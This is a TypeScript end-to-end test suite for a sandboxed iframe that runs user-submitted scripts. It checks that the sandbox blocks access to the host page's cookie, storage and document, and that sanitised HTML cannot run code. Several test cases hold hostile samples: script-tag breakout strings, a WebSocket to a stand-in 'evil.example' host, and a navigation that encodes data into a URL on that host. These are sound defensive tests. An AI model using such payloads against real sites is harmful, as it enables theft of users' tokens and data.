import { createServer } from "node:http";
import type { Server } from "node:http";
import { readFile } from "node:fs/promises";
import { afterAll, beforeAll, beforeEach, expect, test } from "vitest";
import type { Page } from "playwright";
import { openTestBrowser } from "~e2e/support/chromium";
import type { TestBrowser } from "~e2e/support/chromium";
import { hostileMarkup } from "~e2e/support/hostile-markup";
import { createRunMessage, maxFrameHeightPx, sandboxAttribute, sandboxPath } from "./sandbox-protocol";
import { sandboxDocument } from "./sandbox.server";
import { sanitizeSubmissionHtml } from "./submission-html.server";

/** A page of the service as the frame sees it: its policy, a cookie to steal, and the messages it got. */
const hostPage = `<!doctype html><title>host</title><main></main><script>
  document.cookie = "access_token=secret";
  localStorage.setItem("access_token", "secret");
  window.hits = 0;
  window.hit = () => { window.hits += 1; };
  window.heard = [];
  window.addEventListener("message", (event) => {
    window.heard.push({ data: event.data, origin: event.origin, fromFrame: event.source === document.querySelector("iframe")?.contentWindow });
  });
</script>`;

let testBrowser: TestBrowser;
let server: Server;
let origin: string;
let asked: string[];
let page: Page;

beforeAll(async () => {
  testBrowser = await openTestBrowser();
  server = createServer((request, response) => {
    asked.push(request.url ?? "");
    if (request.url === sandboxPath) {
      const { html, headers } = sandboxDocument();
      response.writeHead(200, headers).end(html);
      return;
    }
    response
      .writeHead(200, { "Content-Type": "text/html", "Content-Security-Policy": "frame-src 'self'" })
      .end(hostPage);
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const address = server.address();
  origin = `http://127.0.0.1:${typeof address === "object" && address ? address.port : 0}`;
}, 60_000);

afterAll(async () => {
  await testBrowser?.close();
  server?.closeAllConnections();
  await new Promise((resolve) => server.close(resolve));
});

beforeEach(async () => {
  asked = [];
  await page?.close();
  page = await testBrowser.browser.newPage();
  // This browser reaches only our own server. Other requests are recorded.
  await page.route("**/*", (route) => {
    if (route.request().url().startsWith(`${origin}/`)) return route.continue();
    asked.push(route.request().url());
    return route.abort();
  });
  await page.goto(`${origin}/`);
});

type FrameHeard = {
  data: { type?: string; heightPx?: number; reason?: string; said?: unknown };
  origin: string;
  fromFrame: boolean;
};

async function openFrame(): Promise<void> {
  await page.evaluate(
    ({ path, sandbox }) => {
      const frame = document.createElement("iframe");
      frame.setAttribute("sandbox", sandbox);
      frame.src = path;
      document.querySelector("main")?.append(frame);
    },
    { path: sandboxPath, sandbox: sandboxAttribute },
  );
  await waitForMessage("latchkey:ready");
}

function heard(): Promise<FrameHeard[]> {
  return page.evaluate(() => (window as unknown as { heard: FrameHeard[] }).heard);
}

async function waitForMessage(type: string): Promise<FrameHeard> {
  const found = await page.waitForFunction(
    (wanted) =>
      (window as unknown as { heard: FrameHeard[] }).heard.find((message) => message.data?.type === wanted),
    type,
    { timeout: 10_000 },
  );
  return (await found.jsonValue()) as FrameHeard;
}

function run(script: string, styles = ""): Promise<void> {
  return page.evaluate(
    (message) => document.querySelector("iframe")?.contentWindow?.postMessage(message, "*"),
    createRunMessage(script, styles),
  );
}

/** Runs the body of an async function in the frame and returns its result. */
async function runAndHear(body: string): Promise<unknown> {
  await run(`(async () => { try { return await (async () => { ${body} })(); } catch (error) { return "refused: " + error.name; } })()
    .then((said) => parent.postMessage({ type: "said", said }, "*"));`);
  return (await waitForMessage("said")).data.said;
}

test("the hostile markup is dangerous unsanitised, so the next test can fail", async () => {
  const hits = await page.evaluate(async (markups) => {
    const counter = window as unknown as { hits: number };
    for (const markup of markups) {
      // Parsed outside the page, so redirects and shadowed globals can't stop the count.
      const holder = document.createElement("div");
      holder.innerHTML = markup;
    }
    for (let turn = 0; turn < 100 && counter.hits < 10; turn += 1) {
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
    return counter.hits;
  }, hostileMarkup);
  expect(hits).toBeGreaterThanOrEqual(10);
});

test("sanitised forms run nothing, load nothing and shadow nothing", async () => {
  const documents = hostileMarkup.map(sanitizeSubmissionHtml);
  asked = [];
  const found = await page.evaluate(async (markups) => {
    const faults: string[] = [];
    for (const markup of markups) {
      const holder = document.createElement("div");
      holder.innerHTML = markup;
      document.querySelector("main")?.append(holder);
      if (typeof document.getElementById !== "function" || typeof document.cookie !== "string")
        faults.push(markup);
      for (const form of holder.querySelectorAll("form")) {
        if (!(form.attributes instanceof NamedNodeMap) || form.action !== location.href) faults.push(markup);
      }
      for (const element of holder.querySelectorAll<HTMLElement>("a, button, input, summary")) {
        const isLink = element instanceof HTMLAnchorElement && element.hasAttribute("href");
        if (isLink && !["http:", "https:", "mailto:"].includes(element.protocol)) faults.push(markup);
        element.dispatchEvent(new MouseEvent("mouseover", { bubbles: true }));
        element.focus();
      }
    }
    await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 50)));
    return { faults, hits: (window as unknown as { hits: number }).hits };
  }, documents);
  expect(found).toEqual({ faults: [], hits: 0 });
  expect(asked).toEqual([]);
});

test("the frame's document holds nothing gated and reports that it is ready", async () => {
  await openFrame();
  const ready = await waitForMessage("latchkey:ready");
  expect(ready).toEqual({ data: { type: "latchkey:ready" }, origin: "null", fromFrame: true });
});

test("the posted script runs with its styles, and the page is told its height", async () => {
  await openFrame();
  await run(
    `const box = document.createElement("div"); box.className = "box"; document.body.append(box);`,
    ".latchkey-room .box { height: 123px }",
  );
  await page.waitForFunction(() =>
    (window as unknown as { heard: FrameHeard[] }).heard.some(
      ({ data }) => data?.type === "latchkey:height" && data.heightPx === 123,
    ),
  );
});

test.each([
  "</script><script>parent.postMessage('broken out', '*')</script>",
  "<!--<script>",
  "]]>",
  "\u2028",
])("%j inside the script or the styles does not end them early", async (text) => {
  await openFrame();
  await run(
    `parent.postMessage({ type: "said", said: ${JSON.stringify(text)} }, "*");`,
    `.x::after { content: ${JSON.stringify(text)} } .latchkey-room { height: 50px }`,
  );
  expect((await waitForMessage("said")).data.said).toBe(text);
  expect((await heard()).filter(({ data }) => typeof data === "string")).toEqual([]);
});

test("only the first message of the right shape is run", async () => {
  await openFrame();
  await page.evaluate(() => {
    const frame = document.querySelector("iframe")?.contentWindow;
    for (const data of [
      null,
      "x",
      {},
      { type: "latchkey:run" },
      { type: "latchkey:run", script: 1, styles: "" },
    ]) {
      frame?.postMessage(data, "*");
    }
  });
  await run(`parent.postMessage({ type: "said", said: 1 }, "*");`);
  await waitForMessage("said");
  await run(`parent.postMessage({ type: "said", said: 2 }, "*");`);
  await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 100)));
  expect((await heard()).flatMap(({ data }) => (data.type === "said" ? [data.said] : []))).toEqual([1]);
});

test("another frame of the page cannot post a script", async () => {
  await openFrame();
  await page.evaluate(async () => {
    const other = document.createElement("iframe");
    other.srcdoc = "x";
    document.body.append(other);
    await new Promise((resolve) => other.addEventListener("load", resolve, { once: true }));
    const script = `parent.parent.postMessage({ type: "said", said: "stranger" }, "*")`;
    const sender = other.contentWindow as unknown as { eval: (code: string) => void };
    sender.eval(
      `parent.document.querySelector("iframe").contentWindow.postMessage({ type: "latchkey:run", script: ${JSON.stringify(script)}, styles: "" }, "*")`,
    );
  });
  await run(`parent.postMessage({ type: "said", said: "host" }, "*");`);
  expect((await waitForMessage("said")).data.said).toBe("host");
});

test.each([
  ["the page's document", "return parent.document.title"],
  ["the page's cookie", "return document.cookie"],
  ["the page's storage", "return localStorage.getItem('access_token')"],
  ["its own origin", "if (self.origin !== 'null') return self.origin; throw new DOMException('', 'Opaque')"],
  ["the network by fetch", "return (await fetch('/api/nonce')).status"],
  ["the network by a picture", "const p = new Image(); p.src = '/beacon'; await p.decode(); return 'loaded'"],
  ["a worker", "new Worker('/worker.js'); return 'started'"],
  [
    "a socket",
    "return await new Promise((resolve, reject) => { const s = new WebSocket('wss://evil.example/'); s.onopen = () => resolve('open'); s.onerror = () => reject(new DOMException('', 'Closed')); })",
  ],
  ["code from text", "return new Function('return 1')()"],
  ["another window", "if (open('/popup')) return 'opened'; throw new DOMException('', 'Blocked')"],
  ["the page's address", "top.location = '/taken'; return 'navigated'"],
])("the script cannot reach %s", async (_what, body) => {
  await openFrame();
  asked = [];
  expect(await runAndHear(body)).toMatch(/^refused: /);
  expect(asked).toEqual([]);
  expect(page.url()).toBe(`${origin}/`);
});

test("a frame that navigates elsewhere is stopped by the page's frame-src", async () => {
  await openFrame();
  asked = [];
  const blocked = page.waitForEvent("console", (message) => message.text().includes("frame-src"));
  await run(`location.href = "https://evil.example/?" + encodeURIComponent("gated");`);
  await blocked;
  expect(asked).toEqual([]);
});

test("a script that fails is reported in words", async () => {
  await openFrame();
  await run("undefinedThing();");
  expect((await waitForMessage("latchkey:failed")).data.reason).toContain("undefinedThing is not defined");
});

test("the frame's document has no more rights when opened by itself", async () => {
  await page.goto(`${origin}${sandboxPath}`);
  expect(await page.evaluate(() => self.origin)).toBe("null");
});

test.each(["no-preference", "reduce"] as const)(
  "the demo lamp can be lit, with motion: %s",
  async (reducedMotion) => {
    await page.emulateMedia({ reducedMotion });
    const read = (name: string) => readFile(new URL(`../demo/content/${name}`, import.meta.url), "utf8");
    await openFrame();
    await run(await read("script.js"), await read("styles.css"));
    const height = (await waitForMessage("latchkey:height")).data.heightPx ?? 0;
    expect(height).toBeLessThan(maxFrameHeightPx);
    const frame = page.frameLocator("iframe");
    const button = frame.getByRole("button", { name: "Light the lamp" });
    const colorOfLamp = () =>
      frame.locator("canvas").evaluate((canvas: HTMLCanvasElement) => {
        const brush = canvas.getContext("2d");
        return [...(brush?.getImageData(canvas.width * 0.68, canvas.height * 0.3, 1, 1).data ?? [])].slice(
          0,
          3,
        );
      });
    const dark = await colorOfLamp();
    await button.click();
    await frame.getByRole("button", { name: "Put the lamp out" }).waitFor();
    await expect
      .poll(async () => (await colorOfLamp())[0], { timeout: 5000 })
      .toBeGreaterThan((dark[0] ?? 0) + 120);
    expect((await heard()).filter(({ data }) => data.type === "latchkey:failed")).toEqual([]);
  },
);
